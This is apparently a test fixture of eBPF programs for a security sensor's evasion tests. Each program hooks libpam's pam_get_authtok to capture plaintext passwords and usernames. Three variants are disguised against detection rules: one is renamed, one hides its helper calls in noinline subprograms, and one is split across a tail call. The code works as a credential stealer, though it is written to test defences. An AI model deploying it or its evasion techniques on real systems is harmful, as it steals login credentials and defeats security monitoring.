// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE: the pamspy imitation (pamspy.bpf.c) disguised in the ways
 * a loader can try to slip past rules keyed on names and helper counts, for
 * the sensor's evasion tests. All load on this kernel.
 *   sshd_audit      renamed: the exact pamspy body and helper profile under
 *                   a name no seed pattern matches;
 *   det_pam_split   the credential copies moved into __noinline
 *                   sub-programs: it still makes five bpf_probe_read calls
 *                   at run time, but only three call instructions exist in
 *                   what it submits, under the pattern's five;
 *   det_pam_stage1  the behaviour split across a tail call (prog array slot
 *   det_pam_stage2  0): neither stage alone has the pamspy helper profile.
 */
#include "sentry_test.h"
#include "pam_handle.h"

char LICENSE[] SEC("license") = "GPL";

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 64 * 1024);
} ev_creds SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u32);
	__type(value, u8);
} ev_skip_once SEC(".maps");

/* What stage 1 found, for stage 2 on the same CPU. */
struct stash {
	char *authtok;
	char *user;
	unsigned caller_is;
};

struct {
	__uint(type, BPF_MAP_TYPE_PERCPU_ARRAY);
	__uint(max_entries, 1);
	__type(key, u32);
	__type(value, struct stash);
} ev_stash SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
	__uint(max_entries, 1);
	__type(key, u32);
	__type(value, u32);
} ev_stages SEC(".maps");

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int sshd_audit(struct pt_regs *ctx)
{
	struct pam_handle *pamh = (struct pam_handle *)PT_REGS_PARM1(ctx);
	u32 pid = bpf_get_current_pid_tgid() >> 32;
	char *authtok = 0, *user = 0;
	unsigned caller_is = 0;
	struct cred_event *ev;

	if (bpf_map_lookup_elem(&ev_skip_once, &pid)) {
		bpf_map_delete_elem(&ev_skip_once, &pid);
		return 0;
	}
	bpf_probe_read(&authtok, sizeof(authtok), &pamh->authtok);
	bpf_probe_read(&user, sizeof(user), &pamh->user);
	bpf_probe_read(&caller_is, sizeof(caller_is), &pamh->caller_is);
	if (!authtok)
		return 0;
	ev = bpf_ringbuf_reserve(&ev_creds, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = pid;
	ev->caller_is = caller_is;
	bpf_get_current_comm(ev->comm, sizeof(ev->comm));
	bpf_probe_read(ev->password, sizeof(ev->password), authtok);
	bpf_probe_read(ev->username, sizeof(ev->username), user);
	bpf_ringbuf_submit(ev, 0);
	return 0;
}

static __noinline long read_ptr(char **dst, char **src)
{
	return bpf_probe_read(dst, sizeof(*dst), src);
}

static __noinline long read_cred(char *dst, const char *src)
{
	return bpf_probe_read(dst, CRED_LEN, src);
}

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int det_pam_split(struct pt_regs *ctx)
{
	struct pam_handle *pamh = (struct pam_handle *)PT_REGS_PARM1(ctx);
	u32 pid = bpf_get_current_pid_tgid() >> 32;
	char *authtok = 0, *user = 0;
	unsigned caller_is = 0;
	struct cred_event *ev;

	if (bpf_map_lookup_elem(&ev_skip_once, &pid)) {
		bpf_map_delete_elem(&ev_skip_once, &pid);
		return 0;
	}
	read_ptr(&authtok, &pamh->authtok);
	read_ptr(&user, &pamh->user);
	bpf_probe_read(&caller_is, sizeof(caller_is), &pamh->caller_is);
	if (!authtok)
		return 0;
	ev = bpf_ringbuf_reserve(&ev_creds, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = pid;
	ev->caller_is = caller_is;
	bpf_get_current_comm(ev->comm, sizeof(ev->comm));
	read_cred(ev->password, authtok);
	read_cred(ev->username, user);
	bpf_ringbuf_submit(ev, 0);
	return 0;
}

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int det_pam_stage1(struct pt_regs *ctx)
{
	struct pam_handle *pamh = (struct pam_handle *)PT_REGS_PARM1(ctx);
	u32 pid = bpf_get_current_pid_tgid() >> 32;
	u32 zero = 0;
	struct stash *st;

	if (bpf_map_lookup_elem(&ev_skip_once, &pid)) {
		bpf_map_delete_elem(&ev_skip_once, &pid);
		return 0;
	}
	st = bpf_map_lookup_elem(&ev_stash, &zero);
	if (!st)
		return 0;
	bpf_probe_read(&st->authtok, sizeof(st->authtok), &pamh->authtok);
	bpf_probe_read(&st->user, sizeof(st->user), &pamh->user);
	bpf_probe_read(&st->caller_is, sizeof(st->caller_is), &pamh->caller_is);
	if (st->authtok)
		bpf_tail_call(ctx, &ev_stages, 0);
	return 0;
}

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int det_pam_stage2(struct pt_regs *ctx)
{
	u32 zero = 0;
	struct stash *st = bpf_map_lookup_elem(&ev_stash, &zero);
	struct cred_event *ev;

	if (!st)
		return 0;
	ev = bpf_ringbuf_reserve(&ev_creds, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = 0;
	ev->caller_is = st->caller_is;
	bpf_get_current_comm(ev->comm, sizeof(ev->comm));
	bpf_probe_read(ev->password, sizeof(ev->password), st->authtok);
	bpf_probe_read(ev->username, sizeof(ev->username), st->user);
	bpf_ringbuf_submit(ev, 0);
	return 0;
}
